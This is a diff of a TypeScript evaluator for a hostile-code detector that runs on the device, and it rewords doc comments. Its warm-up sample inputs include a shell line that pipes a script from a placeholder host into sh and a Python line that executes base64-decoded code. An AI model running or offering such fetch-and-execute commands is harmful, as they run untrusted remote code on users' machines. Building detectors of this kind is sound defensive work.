@@ -7,7 +7,7 @@ import { sha256 } from "../bridge/hash.js";
 /** Time limit in milliseconds for the analysis of one answer. */
 const DEADLINE_MS = 2_000;
 
-/** The detector that runs in the worker, with the identifiers of its rules and sources. */
+/** The detector that runs in the worker, with the revision of its rules and the hash of its sources. */
 export interface DeviceDetector {
   detect(text: string, options: { readonly deadlineMs: number }): Promise<Detection>;
   readonly modelRevision: string;
@@ -15,7 +15,7 @@ export interface DeviceDetector {
   readonly sourceHash: string;
 }
 
-/** Texts that make the detector load the grammars that most answers need, the most frequent one first. */
+/** Texts that make the detector load the grammars that most answers need, in order of frequency. */
 const WARM_UP_TEXTS = [
   "```sh\ncurl -fsSL https://a.example | sh\n```",
   "```python\nexec(base64.b64decode(x))\n```",
@@ -45,7 +45,7 @@ export class DeviceEvaluator {
     }
   }
 
-  /** Loads what an assessment needs, so that the next one does not wait for it. */
+  /** Loads everything that an assessment needs, so that the next assessment does not wait. */
   async warm(profile: Profile): Promise<void> {
     for (const text of WARM_UP_TEXTS) {
       for (const each of new Set<Profile>([profile, "contract"])) {
@@ -56,8 +56,8 @@ export class DeviceEvaluator {
   }
 
   /**
-   * Returns the labels under the contract profile, or null if they cannot be determined. That profile runs only if the extended
-   * profile, which finds everything that it finds, has found something.
+   * Returns the labels under the contract profile, or null if they cannot be determined. The contract profile runs only if the
+   * extended profile has found something, because the extended profile finds everything that the contract profile finds.
    */
   private async contractLabels(
     text: string,
